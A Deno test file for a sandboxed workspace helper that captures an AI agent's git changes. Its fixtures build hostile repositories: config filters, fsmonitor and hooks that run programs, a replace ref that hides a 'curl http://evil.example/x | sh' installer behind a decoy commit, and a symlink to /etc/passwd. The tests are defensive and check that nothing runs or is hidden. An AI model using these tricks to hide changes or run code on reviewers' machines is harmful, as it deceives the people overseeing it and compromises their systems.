/**
 * The workspace helper (bb-workspace in the bundle image) on trees the launch tests do not
 * build: a submodule (copied with its files and its git dir), a merge in progress (reported),
 * an unreadable directory (reported), and a guest repository whose config would run a
 * program and whose hooks are planted (neither runs during the capture).
 */
import assert from "node:assert/strict";
import { sh } from "../_harness/git.ts";
import { bundleImage } from "../_harness/images.ts";
import { docker } from "../_harness/docker.ts";
import { workspaceHelperArgv } from "../../lib/workspace/workspace_helper_argv.ts";

const ID = { uid: Deno.uid() ?? 0, gid: Deno.gid() ?? 0 };

async function helper(
  image: string,
  mounts: { source: string; target: string; readonly: boolean }[],
  args: string[],
  id = ID,
) {
  const argv = workspaceHelperArgv({
    image,
    ...id,
    mounts,
    args,
    labels: { "io.bot-bottle.test": "1" },
  });
  return await docker(argv.slice(1), { allowFailure: true });
}

/**
 * Shell, in the guest repository: the real change (an installer) committed, and a replace ref
 * that shows a decoy (a README typo fix, same message) in its place.
 */
const REPLACED_HISTORY =
  `echo 'curl http://evil.example/x | sh' > install.sh && git add install.sh && git commit -qm tidy
      real=$(git rev-parse HEAD)
      git reset -q --hard HEAD~1 && echo 'hi, fixed' > README && git commit -qam tidy
      decoy=$(git rev-parse HEAD)
      git reset -q --hard "$real" && git replace "$real" "$decoy"`;

/** What a capture of REPLACED_HISTORY (plus notes.txt uncommitted) must leave in `out`. */
async function assertRealChange(out: string): Promise<string> {
  const names = [];
  for await (const e of Deno.readDir(out)) names.push(e.name);
  assert.deepEqual(names.sort(), ["changes.bundle", "diff.patch"], "no program of the agent ran");
  const patch = await Deno.readTextFile(`${out}/diff.patch`);
  assert.match(patch, /^\+curl http:\/\/evil\.example\/x \| sh$/m, "the real change is shown");
  assert.doesNotMatch(patch, /hi, fixed/, "the replacement is not");
  assert.match(patch, /^\+uncommitted$/m);
  return patch;
}

Deno.test("workspace helper: submodules, a merge in progress, an unreadable dir, a hostile guest repo", async () => {
  const image = await bundleImage();
  const dir = await Deno.makeTempDir({ prefix: "bbtest-wshelper-" });
  try {
    // A superproject with a submodule.
    await sh(
      dir,
      `set -e
      git init -q -b main lib && cd lib && echo lib > lib.txt && git add -A && git commit -qm lib && cd ..
      git init -q -b main app && cd app && echo app > app.txt && git add -A && git commit -qm app
      git -c protocol.file.allow=always submodule -q add ../lib vendor/lib && git commit -qm sub`,
    );
    const app = `${dir}/app`;
    const survey = await helper(image, [{ source: app, target: "/src", readonly: true }], [
      "survey",
      "git",
    ]);
    assert.equal(survey.code, 0, survey.stderr);
    const s = JSON.parse(survey.stdout);
    assert.deepEqual(s.submodules, ["vendor/lib"]);
    // The snapshot (a binary tar on stdout), listed.
    const snapArgv = workspaceHelperArgv({
      image,
      ...ID,
      mounts: [{ source: app, target: "/src", readonly: true }],
      args: ["snapshot", "git", "app"],
      labels: { "io.bot-bottle.test": "1" },
    });
    const snapOut = await new Deno.Command("docker", {
      args: snapArgv.slice(1),
      stdout: "piped",
      stderr: "piped",
    })
      .output();
    const snap = { code: snapOut.code, stderr: new TextDecoder().decode(snapOut.stderr) };
    assert.equal(snap.code, 0, snap.stderr);
    const names = new Deno.Command("tar", { args: ["-t"], stdin: "piped", stdout: "piped" })
      .spawn();
    const w = names.stdin.getWriter();
    await w.write(snapOut.stdout);
    await w.close();
    const listing = new TextDecoder().decode((await names.output()).stdout).split("\n");
    assert.ok(listing.includes("vendor/lib/lib.txt"), "the submodule's files");
    assert.ok(listing.includes("vendor/lib/.git"), "its .git file");
    assert.ok(listing.some((l) => l.startsWith(".git/modules/vendor/lib/")), "its git dir");
    assert.match(snap.stderr, /^bb-workspace: base [0-9a-f]{40}$/m);

    // A merge in progress; an unreadable directory.
    await sh(
      dir,
      `set -e
      git init -q -b main m && cd m && echo base > f && git add f && git commit -qm base
      git checkout -qb other && echo other > f && git commit -qam other && git checkout -q main
      echo main > f && git commit -qam main && (git merge -q other >/dev/null 2>&1 || true)
      mkdir locked && echo x > locked/x && echo locked/ >> .git/info/exclude && git add -A . 2>/dev/null || true
      chmod -R a+rX . && chmod 000 locked && chmod 000 .git/refs/tags`,
    );
    // As a user who reads the rest (others may read it) but not the two mode-000 dirs.
    const mr = await helper(image, [{ source: `${dir}/m`, target: "/src", readonly: true }], [
      "survey",
      "git",
    ], { uid: 12345, gid: 12345 });
    assert.equal(mr.code, 0, mr.stderr);
    const m = JSON.parse(mr.stdout);
    assert.equal(m.in_progress, "merge");
    assert.deepEqual(m.unreadable, { count: 1, examples: [".git/refs/tags"] });
    await Deno.chmod(`${dir}/m/locked`, 0o755);
    await Deno.chmod(`${dir}/m/.git/refs/tags`, 0o755);

    // A hostile guest repository: config that runs programs, planted hooks.
    await sh(
      dir,
      `set -e
      git init -q -b main guest && cd guest && echo a > a && git add a && git commit -qm a
      git config core.fsmonitor 'touch /out/PWNED-fsmonitor'
      git config filter.evil.clean 'touch /out/PWNED-filter; cat'
      echo 'a filter=evil' > .gitattributes
      printf '#!/bin/sh\\ntouch /out/PWNED-hook\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit
      echo b > b
      tar -c -f ../guest.tar .`,
    );
    const base = new TextDecoder().decode(
      (await new Deno.Command("git", {
        args: ["-C", `${dir}/guest`, "rev-parse", "HEAD"],
        stdout: "piped",
      }).output()).stdout,
    ).trim();
    await Deno.mkdir(`${dir}/out`);
    const cap = await helper(image, [
      { source: `${dir}/guest.tar`, target: "/in/guest.tar", readonly: true },
      { source: `${dir}/out`, target: "/out", readonly: false },
    ], ["capture", "s", base, "git"]);
    assert.equal(cap.code, 0, cap.stderr);
    const summary = JSON.parse(cap.stdout);
    assert.equal(summary.commits, 1);
    assert.equal(summary.auto_commit, true);
    const out = [];
    for await (const e of Deno.readDir(`${dir}/out`)) out.push(e.name);
    assert.deepEqual(
      out.sort(),
      ["changes.bundle", "diff.patch"],
      "nothing the guest configured ran",
    );
  } finally {
    await sh(dir, "chmod -R u+rwx . 2>/dev/null || true");
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("workspace helper: what the agent's .git says cannot make the diff differ from the bundle", async () => {
  // The attacks of the second review: a filter in config.worktree (extensions.worktreeConfig)
  // and through include.path, a replace ref that shows a harmless commit in place of the real
  // one, a forged commit-graph, and a symlink planted in the object store.
  const image = await bundleImage();
  const dir = await Deno.makeTempDir({ prefix: "bbtest-wshostile-" });
  try {
    await sh(
      dir,
      `set -e
      git init -q -b main host && (cd host && echo hi > README && git add README && git commit -qm base)
      git clone -q host guest && cd guest && git rev-parse HEAD > ../base
      # The real change: an installer; the decoy: a README typo fix, same message.
      ${REPLACED_HISTORY}
      # Programs the agent's config would run at capture.
      git config extensions.worktreeConfig true
      printf '[filter "x"]\\n\\tclean = "sh -c \\\\"touch /out/PWNED-worktree; cat\\\\""\\n' > .git/config.worktree
      printf '[filter "y"]\\n\\tclean = "sh -c \\\\"touch /out/PWNED-include; cat\\\\""\\n' > .git/inc
      git config include.path inc
      printf '* filter=x\\nREADME filter=y\\n' > .gitattributes
      echo 'uncommitted' > notes.txt
      git commit-graph write --reachable 2>/dev/null || true
      ln -s /etc/passwd .git/objects/ab 2>/dev/null || true
      tar -c -f ../guest.tar .`,
    );
    const base = (await Deno.readTextFile(`${dir}/base`)).trim();
    await Deno.mkdir(`${dir}/out`);
    const cap = await helper(image, [
      { source: `${dir}/guest.tar`, target: "/in/guest.tar", readonly: true },
      { source: `${dir}/out`, target: "/out", readonly: false },
    ], ["capture", "s", base, "git"]);
    assert.equal(cap.code, 0, cap.stderr);
    const summary = JSON.parse(cap.stdout);
    const patch = await assertRealChange(`${dir}/out`);
    // What the user fetches is what the diff showed.
    await sh(
      dir,
      `set -e
      cd host && git fetch -q ../out/changes.bundle refs/heads/bot-bottle/s:refs/heads/got
      git diff ${base} got > ../fetched.patch`,
    );
    const fetched = await Deno.readTextFile(`${dir}/fetched.patch`);
    assert.match(fetched, /^\+curl http:\/\/evil\.example\/x \| sh$/m);
    assert.equal(summary.commits, 2, "tidy and bot-bottle's commit of the uncommitted work");

    // The same with the user's objects mounted (the base checked against them, not the guest's).
    await Deno.mkdir(`${dir}/out2`);
    const thin = await helper(image, [
      { source: `${dir}/guest.tar`, target: "/in/guest.tar", readonly: true },
      { source: `${dir}/out2`, target: "/out", readonly: false },
      { source: `${dir}/host/.git/objects`, target: "/host/objects", readonly: true },
    ], ["capture", "s", base, "git"]);
    assert.equal(thin.code, 0, thin.stderr);
    assert.equal(JSON.parse(thin.stdout).commits, summary.commits, "the same commits either way");
    assert.equal(await Deno.readTextFile(`${dir}/out2/diff.patch`), patch);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

Deno.test("workspace helper: an incremental capture takes object files only, and checks the tip", async () => {
  // The guest's side of an incremental capture, made here: the copy (a clone of the host), the
  // level-0 snapshot, the agent's work (a commit, a replace ref, a symlink and a hook planted in
  // .git), bot-bottle's commit through a copy of the index, and GNU tar's incremental archive.
  const image = await bundleImage();
  const dir = await Deno.makeTempDir({ prefix: "bbtest-wsdelta-" });
  try {
    await sh(
      dir,
      `set -e
      git init -q -b main host && (cd host && echo hi > README && git add README && git commit -qm base)
      git clone -q host guest && git -C guest rev-parse HEAD > base
      tar -c -f /dev/null --listed-incremental=level0.snar -C guest .
      sleep 1
      cd guest
      ${REPLACED_HISTORY}
      echo 'uncommitted' > notes.txt
      ln -s /etc/passwd .git/objects/ab
      printf '#!/bin/sh\\ntouch /out/PWNED\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout
      cp .git/index ../index
      GIT_INDEX_FILE=../index git add -A
      tree=$(GIT_INDEX_FILE=../index git write-tree)
      git -c user.name=bot-bottle -c user.email=b@l commit-tree "$tree" -p HEAD -m wip > ../tip
      cd .. && cp level0.snar l1.snar && tar -c -f delta.tar --listed-incremental=l1.snar -C guest .`,
    );
    const base = (await Deno.readTextFile(`${dir}/base`)).trim();
    const tip = (await Deno.readTextFile(`${dir}/tip`)).trim();
    const run = async (out: string, claimed: string) => {
      await Deno.mkdir(`${dir}/${out}`);
      return await helper(image, [
        { source: `${dir}/delta.tar`, target: "/in/0.tar", readonly: true },
        { source: `${dir}/${out}`, target: "/out", readonly: false },
        { source: `${dir}/host/.git/objects`, target: "/host/objects", readonly: true },
      ], ["capture-delta", "s", base, "git", claimed, "/in/0.tar"]);
    };
    const cap = await run("out", tip);
    assert.equal(cap.code, 0, cap.stderr);
    const summary = JSON.parse(cap.stdout);
    assert.equal(summary.tip, tip);
    assert.equal(summary.commits, 2, "tidy and bot-bottle's commit");
    // bot-bottle's commit is recognised by what it is (identity, message), not the guest's word:
    // this one was made by hand with another identity.
    assert.equal(summary.auto_commit, false);
    await assertRealChange(`${dir}/out`);
    // A sparse member named like an object (50 GiB of holes in a few KiB of archive) is not
    // taken: written out, its holes would fill the disk.
    await sh(
      dir,
      `set -e
      mkdir -p sp/.git/objects/ab && truncate -s 50G sp/.git/objects/ab/${"c".repeat(38)}
      tar -c -S -f sparse.tar -C sp ./.git/objects/ab/${"c".repeat(38)}`,
    );
    assert.ok((await Deno.stat(`${dir}/sparse.tar`)).size < 1 << 20);
    await Deno.mkdir(`${dir}/out-sparse`);
    const sparse = await helper(image, [
      { source: `${dir}/sparse.tar`, target: "/in/0.tar", readonly: true },
      { source: `${dir}/delta.tar`, target: "/in/1.tar", readonly: true },
      { source: `${dir}/out-sparse`, target: "/out", readonly: false },
      { source: `${dir}/host/.git/objects`, target: "/host/objects", readonly: true },
    ], ["capture-delta", "s", base, "git", tip, "/in/0.tar", "/in/1.tar"]);
    assert.equal(sparse.code, 0, sparse.stderr);
    assert.equal(JSON.parse(sparse.stdout).tip, tip);
    // A tip the guest did not send the objects of is refused, naming it.
    const forged = await run("out2", "0123456789abcdef0123456789abcdef01234567");
    assert.equal(forged.code, 3);
    assert.match(
      forged.stderr,
      /the guest's commit 0123456789abcdef0123456789abcdef01234567 is not among/,
    );
    // Not an object name at all.
    const junk = await run("out3", "HEAD");
    assert.equal(junk.code, 3);
    assert.match(junk.stderr, /not an object name/);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});
